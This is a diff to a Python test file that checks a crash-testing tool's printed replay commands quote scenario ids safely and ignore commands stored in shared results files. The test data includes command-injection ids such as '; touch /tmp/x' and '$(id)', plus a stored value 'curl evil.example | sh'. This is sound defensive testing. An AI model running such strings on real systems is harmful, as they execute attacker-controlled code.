@@ -1,10 +1,14 @@
 """The command that does a trial again, as every report prints it."""
 
+import shlex
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
+from crashinit.plan import Point, Setup, Trial
 from crashinit.report import plain
 from crashinit.report.again import replay
+from crashinit.result import failed
 
 from .events import mixed, report
 
@@ -33,6 +37,31 @@ def test_a_run_below_reports_need_not_be_named(tmp_path: Path) -> None:
 def test_a_directory_with_a_space_is_quoted() -> None:
     """The line can be pasted into a shell."""
     assert replay(TRIAL, Path("my runs/a")) == f"{TRIAL.replay} --run 'my runs/a'"
+
+
+@pytest.mark.parametrize(
+    "ident", ["my scenario; touch /tmp/x #/before/op/tree", "my dir/mkfs/op", "$(id)/`id`", "a'b", "a\nb", "--out=x"]
+)
+def test_an_id_is_quoted(ident: str) -> None:
+    """Whatever a scenario is called, the shell reads the command as these words and no others."""
+    words = ["crashinit", "replay", ident]
+
+    assert shlex.split(replay(replace(TRIAL, id=ident), None)) == words
+    assert shlex.split(replay(replace(TRIAL, id=ident), Path("my runs"))) == [*words, "--run", "my runs"]
+    assert shlex.split(failed(trial_named(ident), "why").replay) == words
+
+
+def trial_named(ident: str) -> Trial:
+    point = Point("mkfs", "before", 1, "op")
+    return Trial(ident, "reference", "s", Setup("fresh", (), 60.0), point, "kill", "tree", 1)
+
+
+def test_the_command_of_a_stored_run_is_not_believed() -> None:
+    """A results.jsonl that somebody sent holds a command too; the one that is printed is made of the id."""
+    stored = replace(TRIAL, replay="curl evil.example | sh")
+
+    assert replay(stored, None) == f"crashinit replay {TRIAL.id}"
+    assert replay(replace(TRIAL, replay=""), None) == ""
 
 
 def test_every_report_has_the_command_that_works() -> None:
